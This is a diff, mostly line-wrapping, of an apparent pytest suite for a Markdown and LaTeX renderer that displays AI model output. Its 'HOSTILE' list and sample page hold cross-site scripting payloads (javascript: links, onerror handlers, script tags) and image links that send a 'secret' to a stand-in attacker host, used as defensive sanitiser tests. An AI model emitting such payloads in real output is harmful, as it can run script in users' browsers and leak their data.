@@ -36,7 +36,7 @@ class Reader(HTMLParser):
         self.elements.append((tag, dict(attrs)))
         self._label = ("class", "tw-language") in attrs
 
-    def handle_endtag(self, tag: str) -> None:
+    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - HTMLParser's signature
         self._label = False
 
     def handle_data(self, data: str) -> None:
@@ -90,8 +90,10 @@ def test_prose_stays_as_it_is_in_a_table(text: str) -> None:
 
 
 WORDS = [
-    "word", "Größe", "日本語", "$5", "$", "$$", "5$", "$n$", "$x_1", "x^2$", ":smile:", ":red[x]", ":material/home:", "--",
-    "---", "->", "<-", "=>", "...", "(c)", "'", '"', "[x]", "(y)", "{z}", "a/b", "%", "@", "|", "1.", "+", "vec![1,", "2];",
+    "word", "Größe", "日本語", "$5", "$", "$$", "5$", "$n$", "$x_1", "x^2$", ":smile:", ":red[x]",
+    ":material/home:", "--",
+    "---", "->", "<-", "=>", "...", "(c)", "'", '"', "[x]", "(y)", "{z}", "a/b", "%", "@", "|", "1.", "+",
+    "vec![1,", "2];",
     "http://a.example", "$HOME/bin:$PATH", "US$5-$7", "~", "^", "=", "a=1", "🎉",
 ]  # fmt: skip
 
@@ -113,7 +115,8 @@ def plain() -> MarkdownIt:
 
 MARKS = st.sampled_from(
     ["*", "**", "_", "~~", "`", "```", "#", "##", ">", "-", "+", "1.", "|", "|-|", "[", "]", "(http://a.example)", "<",
-     "<http://a.example>", "<b>", "&amp;", "&lt;", "a", "word", " ", " ", "\n", "\n\n", "    ", ":", "$5", "--", "=", "!"]
+     "<http://a.example>", "<b>", "&amp;", "&lt;", "a", "word", " ", " ", "\n", "\n\n", "    ", ":", "$5", "--",
+     "=", "!"]
 )  # fmt: skip
 
 
@@ -126,7 +129,8 @@ def test_text_with_marks_reads_as_plain_commonmark_does(text: str) -> None:
 # ---- formulas ----------------------------------------------------------------------------------------------------
 
 MATHS = [
-    "$n$", "$x_{max} = 3$", "$ABC$", "$5x+3=2$", r"$\sin x$", "$ax^2 + bx + c = 0$", r"\(x\)", r"\(a_b + c_d\)", r"\[x\]",
+    "$n$", "$x_{max} = 3$", "$ABC$", "$5x+3=2$", r"$\sin x$", "$ax^2 + bx + c = 0$", r"\(x\)", r"\(a_b + c_d\)",
+    r"\[x\]",
     "$$x$$", r"$x \text{ if it is positive}$", r"$\mathrm{speed} = 3$", r"$\operatorname{lcm}(a, b)$", r"\(distance\)",
     r"$a < b$", "$10^{-3}$", r"$5\%$",
 ]  # fmt: skip
@@ -161,7 +165,8 @@ def test_two_formulas_of_a_line_are_two() -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["\\[\nx\n\\]", "$$\nx\n$$", "$$x\n$$", "So:\n\\[\nx\n\\]", "So:\n\\[\nx\n\\].", "- a\n\n  $$\n  x\n  $$", "> $$\n> x\n> $$"]
+    "text", ["\\[\nx\n\\]", "$$\nx\n$$", "$$x\n$$", "So:\n\\[\nx\n\\]", "So:\n\\[\nx\n\\].",
+    "- a\n\n  $$\n  x\n  $$", "> $$\n> x\n> $$"]
 )  # fmt: skip
 def test_a_formula_of_several_lines_is_a_block(text: str) -> None:
     assert (
@@ -185,7 +190,8 @@ def test_an_open_block_of_maths_is_shown_as_its_source(mark: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "latex", [r"\unknown x", "x^", r"\frac", "{", r"\newcommand{\a}{\a}\a", r"\href{javascript:alert(1)}{x}", "{" * 1000]
+    "latex", [r"\unknown x", "x^", r"\frac", "{", r"\newcommand{\a}{\a}\a", r"\href{javascript:alert(1)}{x}",
+    "{" * 1000]
 )  # fmt: skip
 def test_what_cannot_be_converted_is_shown_as_its_source(latex: str) -> None:
     drawn = render(rf"\({latex}\)")
@@ -195,9 +201,12 @@ def test_what_cannot_be_converted_is_shown_as_its_source(latex: str) -> None:
 
 @pytest.mark.parametrize(
     "latex",
-    [r"\frac{a}{b}", r"\sqrt[3]{x}", r"\begin{aligned}a&=b\\c&=d\end{aligned}", r"\begin{align}a&=b\end{align}", r"a\\b",
-     r"\begin{cases}1&x>0\\0&\text{else}\end{cases}", r"\begin{pmatrix}1&2\\3&4\end{pmatrix}", r"\boxed{x}", r"\mathbb{R}",
-     r"\left(\frac{1}{2}\right]", r"\sum_{i=1}^n i \implies \vec v", r"\begin{gathered}a\\b\end{gathered}", r"\dfrac12"],
+    [r"\frac{a}{b}", r"\sqrt[3]{x}", r"\begin{aligned}a&=b\\c&=d\end{aligned}", r"\begin{align}a&=b\end{align}",
+     r"a\\b",
+     r"\begin{cases}1&x>0\\0&\text{else}\end{cases}", r"\begin{pmatrix}1&2\\3&4\end{pmatrix}", r"\boxed{x}",
+     r"\mathbb{R}",
+     r"\left(\frac{1}{2}\right]", r"\sum_{i=1}^n i \implies \vec v", r"\begin{gathered}a\\b\end{gathered}",
+     r"\dfrac12"],
 )  # fmt: skip
 def test_what_models_write_can_be_converted(latex: str) -> None:
     assert markdown._mathml(latex, "block").startswith('<math display="block">')
@@ -244,16 +253,20 @@ def test_only_the_beginning_of_long_code_is_coloured() -> None:
 # ---- what a model may try ----------------------------------------------------------------------------------------
 
 HOSTILE = [
-    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>)",
-    "[x](vbscript:x)", "[x](/relative)", "[x](//host/path)", "[x](file:///etc/passwd)", "<javascript:alert(1)>", "<ftp://a.b>",
+    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html,<script>)",
+    "[x](vbscript:x)", "[x](/relative)", "[x](//host/path)", "[x](file:///etc/passwd)", "<javascript:alert(1)>",
+    "<ftp://a.b>",
     "[x]: javascript:alert(1)\n\n[x]", "![x](http://attacker/?q=secret)", "![x](javascript:alert(1))",
     "[![x](http://attacker/?q=secret)](http://a.b)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
-    "</code></pre><script>", "```\"><img src=x>\ncode\n```", "```<b>\ncode\n```", "<svg onload=x>", "<style>*{}</style>",
-    "| <img src=x> |\n|-|\n| <b> |", '[x](http://a.b "\\"><img src=x>")', '[x](http://a.b/"onclick=x)', "&lt;script&gt;",
+    "</code></pre><script>", '```"><img src=x>\ncode\n```', "```<b>\ncode\n```", "<svg onload=x>", "<style>*{}</style>",
+    "| <img src=x> |\n|-|\n| <b> |", '[x](http://a.b "\\"><img src=x>")', '[x](http://a.b/"onclick=x)',
+    "&lt;script&gt;",
     r"\(\text{<img src=x>}\)", r"$\style{background:url(//x)}{y}$", '<span data-tw-math="&lt;math&gt;">', "# <h1>",
 ]  # fmt: skip
 ALLOWED = {
-    "p", "a", "code", "pre", "div", "span", "strong", "em", "s", "ul", "ol", "li", "blockquote", "hr", "br", "h3", "h4", "h5",
+    "p", "a", "code", "pre", "div", "span", "strong", "em", "s", "ul", "ol", "li", "blockquote", "hr", "br",
+    "h3", "h4", "h5",
     "h6", "table", "thead", "tbody", "tr", "th", "td",
 }  # fmt: skip
 ATTRIBUTES = {"href", "title", "target", "rel", "class", "tabindex", "role", "aria-label", "data-tw-math", "start"}
@@ -306,11 +319,14 @@ def test_a_table_scrolls_by_itself() -> None:
 
 
 SIZES = {
-    "quotes": "> " * 1000 + "x", "lists": "- " * 1000 + "x", "both": "> - " * 1000 + "x", "brackets": "[" * 1000 + "x" + "]" * 1000,
-    "links": "[" * 1000 + "x" + "](http://a.b)" * 1000, "images": "![" * 1000, "stars": "*a **b" * 5000, "line": "word " * 200_000,
+    "quotes": "> " * 1000 + "x", "lists": "- " * 1000 + "x", "both": "> - " * 1000 + "x",
+    "brackets": "[" * 1000 + "x" + "]" * 1000,
+    "links": "[" * 1000 + "x" + "](http://a.b)" * 1000, "images": "![" * 1000, "stars": "*a **b" * 5000,
+    "line": "word " * 200_000,
     "dollars": "$x " * 100_000, "double": "$$ " * 100_000, "parentheses": "\\(" * 50_000, "squares": "\\[x\n" * 20_000,
     "braces": "\\(" + "{" * 3000 + "\\)", "angles": "<a" * 50_000, "ticks": "".join("`" * n + " " for n in range(400)),
-    "table": "|a" * 1000 + "\n" + "|-" * 1000 + "\n|b", "code": "```python\n" + "x = '" * 100_000, "open": "[a](http://" * 10_000,
+    "table": "|a" * 1000 + "\n" + "|-" * 1000 + "\n|b",
+    "code": "```python\n" + "x = '" * 100_000, "open": "[a](http://" * 10_000,
 }  # fmt: skip
 
 
@@ -330,8 +346,10 @@ def test_what_is_nested_too_deep_is_still_shown() -> None:
 # ---- growing -----------------------------------------------------------------------------------------------------
 
 FRAGMENTS = st.sampled_from(
-    ["word ", "So it is. ", "\n", "\n", "\n\n", "\n\n", "- ", "  - ", "1. ", "> ", "# ", "```\n", "```python\n", "~~~\n", "    ",
-     "---\n", "===\n", "-", "=", "|a|b|\n", "|-|-|\n", "| x", "$$", "$$\n", "\\[", "\\]", "\\]\n", "\\(x", "\\)", "$x$", "$5 ",
+    ["word ", "So it is. ", "\n", "\n", "\n\n", "\n\n", "- ", "  - ", "1. ", "> ", "# ", "```\n", "```python\n",
+     "~~~\n", "    ",
+     "---\n", "===\n", "-", "=", "|a|b|\n", "|-|-|\n", "| x", "$$", "$$\n", "\\[", "\\]", "\\]\n", "\\(x",
+     "\\)", "$x$", "$5 ",
      "**", "*", "`", "[a](http://a.b)", "[a](http", "![", "<b>", "\r\n", "\r", "\t", "\0", "x^2"]
 )  # fmt: skip
 
@@ -396,9 +414,11 @@ def test_a_link_defined_above_is_known_below_and_one_defined_below_when_the_answ
 @pytest.mark.parametrize(
     ("text", "drawn"),
     [
-        ("So:\n-", "So:\n"), ("So:\n--", "So:\n"), ("So:\n- one", "So:\n\none\n\n"), ("So\n=", "So\n"), ("So\n``", "So\n"),
+        ("So:\n-", "So:\n"), ("So:\n--", "So:\n"), ("So:\n- one", "So:\n\none\n\n"), ("So\n=", "So\n"),
+        ("So\n``", "So\n"),
         ("So\n\n| a | b", "So\n"), ("So\n\n| a | b |\n", "So\n"), ("So\n\n| a | b |\n|--", "So\n"), ("So\n\n1", "So\n"),
-        ("see [here](http://exa", "see here\n"), ("so \\(x^2", "so \\(x^2\n"), ("**bold", "**bold\n"), ("so $x", "so $x\n"),
+        ("see [here](http://exa", "see here\n"), ("so \\(x^2", "so \\(x^2\n"), ("**bold", "**bold\n"), ("so $x",
+        "so $x\n"),
         ("`code", "`code\n"), ("costs $", "costs $\n"),
     ],
 )  # fmt: skip
@@ -469,10 +489,12 @@ SAMPLE = r"""
 # A heading with $x$
 
 It costs $5 today and $7 tomorrow. Inline \(\frac{a}{b}\), a [link](https://example.org/?a=1&b=2) and `code`,
-![alt](http://attacker.example/?q=secret), <img src="http://attacker.example/x"> and averyverylongwordthatdoesnotfit/averyverylong.
+![alt](http://attacker.example/?q=secret), <img src="http://attacker.example/x"> and
+averyverylongwordthatdoesnotfit/averyverylongwordthatdoesnotfit.
 
 $$
-\begin{aligned} a &= b \\ &= \sum_{i=1}^{n} \left(\frac{i^2}{2}\right) + x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 \end{aligned}
+\begin{aligned} a &= b \\
+&= \sum_{i=1}^{n} \left(\frac{i^2}{2}\right) + x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 \end{aligned}
 $$
 
 ```python
@@ -522,7 +544,7 @@ def sample_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     port = free_port()
     flags = {"port": port, "address": "localhost", "headless": "true", "fileWatcherType": "none"}
     process = subprocess.Popen(
-        [sys.executable, "-m", "streamlit", "run", folder / "page.py", "--browser.gatherUsageStats=false"]
+        [sys.executable, "-m", "streamlit", "run", str(folder / "page.py"), "--browser.gatherUsageStats=false"]
         + [f"--server.{name}={value}" for name, value in flags.items()],
         stdout=subprocess.DEVNULL,
         text=True,
